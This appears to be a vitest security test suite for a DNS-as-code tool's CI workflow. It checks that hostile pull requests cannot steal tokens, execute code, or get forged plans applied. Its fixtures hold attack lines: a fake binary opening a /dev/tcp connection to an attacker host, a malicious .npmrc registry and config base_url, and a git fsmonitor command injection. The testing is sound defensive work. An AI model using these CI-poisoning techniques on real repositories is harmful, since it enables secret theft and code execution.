/** Pull requests that attack the jobs with secrets. */
import { chmodSync, cpSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { checksumOf } from '../../src/stored/plans/plan-json.ts'
import type { StoredArtifact, StoredRun } from '../scripted/code-sites/github.ts'
import { type Attacker, startAttacker } from '../support/attacker.ts'
import { describeWithTools, LONG_SERVERS } from '../support/skip.ts'
import { temporaryDirectory } from '../support/temp-directory.ts'
import { git } from '../support/workflow-runner.ts'
import { commentsOn, openRepository, READ, type Repository, zone } from './repository.ts'

const evilConfig = ({ host }: Attacker): string =>
  `providers: {cloud: {type: cloud, base_url: 'http://${host}/v4', token: 'env:ZONEWRIGHT_TOKEN'}}\n`

const TTL = `- name: ttl
  each: record_set
  require: {properties: {ttl: {minimum: 300}}}
  message: a TTL is at least 5 minutes
  tests: [{given: {ttl: 300}, expect: pass}, {given: {ttl: 60}, expect: fail}]
- name: few-creations
  each: plan
  require: {properties: {summary: {properties: {create: {maximum: 1}}}}}
  message: a plan creates at most one record
  tests: [{given: {summary: {create: 2}}, expect: fail}]
`

describeWithTools(['git', 'bash', 'curl', 'unzip', 'zip'], 'a pull request that attacks', () => {
  let repository: Repository
  let attacker: Attacker
  let branches = 0

  beforeAll(async () => {
    repository = await openRepository()
    await repository.applyMain()
  })

  beforeEach(async () => {
    attacker = await startAttacker()
    repository.github.artifacts.length = 0
  })

  /** Opens a pull request that changes a zone and does more. */
  const open = (change: (folder: string) => void, address = '192.0.2.5'): number => {
    branches += 1
    repository.commit(`attack-${branches}`, (folder) => {
      writeFileSync(join(folder, 'zones/example.com.yaml'), zone('example.com', address))
      change(folder)
    })
    return repository.open(`attack-${branches}`)
  }

  test.each<[string, 0 | 1, (folder: string, attacker: Attacker) => void]>([
    ['changes the config', 0, (folder, attacker) => writeFileSync(join(folder, 'zonewright.yaml'), evilConfig(attacker))],
    [
      'replaces the config by a link to its own file',
      1,
      (folder, attacker) => {
        writeFileSync(join(folder, 'evil.yaml'), evilConfig(attacker))
        rmSync(join(folder, 'zonewright.yaml'))
        symlinkSync('evil.yaml', join(folder, 'zonewright.yaml'))
      },
    ],
    [
      'replaces the config by a folder',
      1,
      (folder, attacker) => {
        rmSync(join(folder, 'zonewright.yaml'))
        mkdirSync(join(folder, 'zonewright.yaml'))
        writeFileSync(join(folder, 'zonewright.yaml/zonewright.yaml'), evilConfig(attacker))
      },
    ],
    [
      'adds a program, packages and npm settings',
      0,
      (folder, attacker) => {
        mkdirSync(join(folder, 'node_modules/.bin'), { recursive: true })
        writeFileSync(join(folder, 'node_modules/.bin/zonewright'), `#!/bin/sh\nexec 3<>/dev/tcp/${attacker.host.replace(':', '/')}\n`)
        chmodSync(join(folder, 'node_modules/.bin/zonewright'), 0o755)
        writeFileSync(join(folder, '.npmrc'), `registry=http://${attacker.host}/\n`)
        writeFileSync(join(folder, '.env'), `ZONEWRIGHT_ALLOWED_HOSTS=${attacker.host}\n`)
        writeFileSync(join(folder, 'zonewright.yaml'), evilConfig(attacker))
      },
    ],
  ])('and %s is planned with the providers of the base branch, if it has a config', async (_, status, change) => {
    const number = open((folder) => change(folder, attacker))
    const before = repository.scene.proxy.requests.length
    await repository.check(number)
    expect(repository.scene.proxy.requests).toHaveLength(before)
    const shown = expect.stringMatching(status === 0 ? /<code>providers<\/code>.*of the config takes? effect after.*2\.5/s : /has errors/)
    expect(await repository.plan(number)).toMatchObject({ status, summary: shown })
    expect(commentsOn(repository, number)).toEqual([shown])
    expect(attacker.received()).toBe('')
    const requests = repository.scene.proxy.requests.slice(before)
    expect(new Set(requests.map(({ headers }) => headers.authorization))).toEqual(new Set(status === 0 ? [`Bearer ${READ}`] : []))
  })

  test('by tags with the name of the branch does not replace it', async () => {
    const number = open((folder) => writeFileSync(join(folder, 'zonewright.yaml'), evilConfig(attacker)))
    const tags = ['main', 'origin/main', 'refs/remotes/origin/main']
    for (const tag of tags) git(repository.clone, 'tag', tag, `attack-${branches}`)
    git(repository.clone, 'push', '-q', '--tags', 'origin')
    const planned = await repository.plan(number)
    for (const tag of tags) git(repository.clone, 'push', '-q', '--delete', 'origin', `refs/tags/${tag}`)
    for (const tag of tags) git(repository.clone, 'tag', '-d', tag)
    expect(planned).toMatchObject({ status: 0, summary: expect.stringContaining('192.0.2.5') })
    expect(attacker.received()).toBe('')
  })

  test('by a bare repository in the folder of the config reads and runs nothing of it, in the plan and after the merge', async () => {
    const [name, path] = ['zones/example.org.yaml', 'dns/zones/example.org.yaml']
    await repository.push({ 'dns/zonewright.yaml': repository.scene.config(), [path]: readFileSync(join(repository.clone, name), 'utf8') })
    const evil = temporaryDirectory()
    git(evil, 'init', '-q', '.')
    writeFileSync(join(evil, 'zonewright.yaml'), evilConfig(attacker))
    git(evil, 'add', '-A')
    git(evil, 'commit', '-q', '-m', 'evil')
    git(evil, 'update-ref', 'refs/remotes/origin/main', 'HEAD')
    rmSync(join(evil, '.git/hooks'), { recursive: true })
    const program = join(evil, 'ran')
    writeFileSync(join(evil, '.git/config'), `[core]\nrepositoryformatversion = 0\nbare = true\nfsmonitor = "touch ${program}"\n`)
    repository.on.workflow = (text) => text.replace(/zonewright ci (?:plan|apply)/g, '$& --config dns/zonewright.yaml')
    const number = open((folder) => {
      cpSync(join(evil, '.git'), join(folder, 'dns'), { recursive: true })
      writeFileSync(join(folder, path), zone('example.org', '192.0.2.64'))
    })
    // In CI the outermost repository counts, so that of the pull request answers for nothing.
    expect(await repository.plan(number)).toMatchObject({ status: 0, summary: expect.stringContaining('192.0.2.64') })
    expect(await repository.merge(number)).toMatchObject({ status: 0 })
    repository.on.workflow = (text) => text
    expect([attacker.received(), existsSync(program)]).toEqual(['', false])
    repository.revert()
    await repository.applyMain()
  })

  test('by a host that is not in the list fails the check, which has no token', async () => {
    const checked = await repository.check(open((folder) => writeFileSync(join(folder, 'zonewright.yaml'), evilConfig(attacker))))
    expect(checked).toMatchObject({ status: 1, output: expect.stringContaining('host-not-allowed') })
    expect(attacker.received()).toBe('')
  })

  type Tampering = (kept: StoredArtifact, run: StoredRun) => void
  async function expectNothingApplied(_: string, reason: RegExp, change: Tampering): Promise<void> {
    const number = open(() => undefined, `192.0.2.${100 + branches}`)
    const { status, run } = await repository.plan(number)
    expect(status).toBe(0)
    const [kept] = repository.github.artifacts
    change(kept as StoredArtifact, repository.github.runs.find(({ id }) => id === run) as StoredRun)
    const before = repository.scene.proxy.mutations().length
    const merged = await repository.merge(number)
    expect(merged).toMatchObject({ status: 3, output: expect.stringMatching(reason), summary: expect.stringContaining('Planned again') })
    expect(repository.scene.proxy.mutations()).toHaveLength(before)
    await repository.applyMain()
  }

  const NOTHING = 'is merged with a plan %s: nothing is applied, and a new plan is shown'
  test.each<[string, RegExp, Tampering]>([
    ['made by the workflow of the branch', /no run of .*dns\.yml for pull/, (_, run) => Object.assign(run, { event: 'pull_request' })],
    ['made by another workflow', /no run of .*dns\.yml for/, (_, run) => Object.assign(run, { path: '.github/workflows/evil.yml' })],
    ['made by the workflow of another base branch', /not on main/, (_, run) => Object.assign(run, { headSha: 'b'.repeat(40) })],
    ['of a run that failed', /ended with failure/, (_, run) => Object.assign(run, { conclusion: 'failure' })],
    ['of a run before one that was refused', /ended with failure/, (_, run) => later(run, { conclusion: 'failure' })],
    ['of a run for another pull request', /no run of/, (_, run) => Object.assign(run, { title: run.title?.replace(/\d+ at/, '7 at') })],
    ['that has expired', /has expired/, (kept) => Object.assign(kept, { expired: true })],
    ['of another commit', /has 0 artifacts/, (kept) => Object.assign(kept, { name: `zonewright-plan-${'c'.repeat(40)}` })],
  ])(NOTHING, expectNothingApplied)
  test.each<[string, RegExp, Tampering]>([
    ['of a run before one that was cancelled', /ended with cancelled/, (_, run) => later(run, { conclusion: 'cancelled' })],
    ['of a run before one that kept none', /has 0 artifacts/, (_, run) => later(run, {})],
    ['of a run before one that has not ended', /ended with none/, (_, run) => later(run, { conclusion: null })],
    ['of a run before one that ran again', /ended with failure/, (_, run) => again(run, { id: run.id - 1, conclusion: 'failure' })],
    ['of a run that began with another', /same second as/, (_, run) => later(run, { startedAt: run.id })],
    ['of a run before one whose title names no commit', /set the run-name/, (_, run) => later(run, { title: 'Harmless' })],
    ['of the attempt before the last', /before the last attempt/, (_, run) => again(run, {})],
    ['of one of too many runs', /lists only 1000 of 1002 runs/, (_, run) => crowd(run)],
  ])(NOTHING, LONG_SERVERS, expectNothingApplied)

  /** Adds a run of the same pull request that began later. */
  function later(run: StoredRun, change: Partial<StoredRun>): void {
    repository.github.runs.push({ ...run, id: repository.github.nextId(), ...change })
  }

  /** Adds a run, or changes this one: its last attempt began later. */
  function again(run: StoredRun, change: Partial<StoredRun>): void {
    const startedAt = repository.github.nextId()
    if (change.id === undefined) Object.assign(run, { startedAt, ...change })
    else repository.github.runs.push({ ...run, startedAt, ...change })
  }

  function crowd(run: StoredRun): void {
    for (let count = 0; count < 1001; count += 1) later(run, { title: run.title?.replace(/\d+ at/, '7 at') as string })
  }

  test.each<[string, (text: string) => string]>([
    ['without its signature', (text) => resealed(text, ({ signature: _, ...rest }) => rest)],
    ['with another address', (text) => resealed(text.replaceAll('192.0.2.200', '192.0.2.66'), (plan) => plan)],
    ['that is no plan', () => '{"format": "zonewright-plan"}'],
  ])('is merged with a plan %s: the job fails, applies nothing and shows a new plan', async (_, change) => {
    const number = open(() => undefined, '192.0.2.200')
    expect((await repository.plan(number)).status).toBe(0)
    const file = repository.stored.get(repository.github.artifacts[0]?.id ?? 0) as string
    writeFileSync(file, change(readFileSync(file, 'utf8')))
    const before = repository.scene.proxy.mutations().length
    expect(await repository.merge(number)).toMatchObject({ status: 1, summary: expect.stringMatching(/^## Planned again.*2\.200/s) })
    expect(repository.scene.proxy.mutations()).toHaveLength(before)
    repository.revert()
  })

  describe('the policies of the base branch', () => {
    beforeAll(async () => {
      await repository.push({ 'policies/rules.yaml': TTL })
    })

    /** Opens a pull request that adds records and does more. */
    const openWith = (records: string, change: (folder: string) => void = () => undefined): number =>
      open((folder) => {
        writeFileSync(join(folder, 'zones/example.com.yaml'), zone('example.com', '192.0.2.1', records))
        change(folder)
      })

    const LOW = '  low: {type: A, ttl: 60, value: 192.0.2.6}\n'
    const MANY = '  a: {type: A, ttl: 5m, value: 192.0.2.6}\n  b: {type: A, ttl: 5m, value: 192.0.2.6}\n'

    test('apply to a pull request: no plan is kept, and the comment says why', async () => {
      const number = openWith(LOW)
      expect(await repository.plan(number)).toMatchObject({ status: 1, output: expect.stringContaining('title=policy-ttl') })
      expect(commentsOn(repository, number)).toEqual([expect.stringContaining('error[policy-ttl] low.example.com. A: a TTL')])
      expect(repository.github.artifacts.filter(({ name }) => name.startsWith('zonewright-plan'))).toEqual([])
      const many = openWith(MANY)
      expect(await repository.plan(many)).toMatchObject({ status: 1 })
      expect(commentsOn(repository, many)).toEqual([expect.stringContaining('error[policy-few-creations] a plan creates')])
    })

    test.each<[string, (folder: string) => void]>([
      [
        'weakens a policy, makes an exception, and names other policies in the config',
        (folder) => {
          const exceptions = "  exceptions: [{zone: '*', until: 2099-01-01, reason: mine}]\n  tests:"
          writeFileSync(join(folder, 'policies/rules.yaml'), TTL.replaceAll('300', '60').replace('  tests:', exceptions))
          writeFileSync(join(folder, 'zonewright.yaml'), `${repository.scene.config()}\npolicies: []\n`)
        },
      ],
      ['removes the policies', (folder) => rmSync(join(folder, 'policies'), { recursive: true })],
    ])('a pull request that %s is checked by those of the base branch', async (_, change) => {
      const number = openWith(LOW, change)
      expect(await repository.plan(number)).toMatchObject({ status: 1, output: expect.stringContaining('title=policy-ttl') })
      expect(commentsOn(repository, number)).toEqual([expect.stringContaining('error[policy-ttl]')])
    })

    test('the check without secrets runs the tests of changed policies', async () => {
      const number = openWith('', (folder) => writeFileSync(join(folder, 'policies/rules.yaml'), TTL.replace(': 300', ': 30')))
      expect(await repository.check(number)).toMatchObject({ status: 1, output: expect.stringContaining('policies-test-failed') })
      expect(await repository.plan(number)).toMatchObject({ status: 0 })
    })

    test('a reviewed plan that the policies of the merge refuse is not applied', async () => {
      const number = openWith('  zz: {type: A, ttl: 10m, value: 192.0.2.6}\n')
      expect(await repository.plan(number)).toMatchObject({ status: 0 })
      await repository.push({ 'policies/rules.yaml': TTL.replace('minimum: 300', 'minimum: 3600') })
      const before = repository.scene.proxy.mutations().length
      expect(await repository.merge(number)).toMatchObject({ status: 1, output: expect.stringContaining('policy-ttl') })
      expect(repository.scene.proxy.mutations()).toHaveLength(before)
    })
  })
})

/** A plan with a valid checksum after a change. */
function resealed(text: string, change: (plan: Record<string, unknown>) => Record<string, unknown>): string {
  const { checksum: _, ...plan } = change(JSON.parse(text))
  return JSON.stringify({ ...plan, checksum: checksumOf(plan) })
}
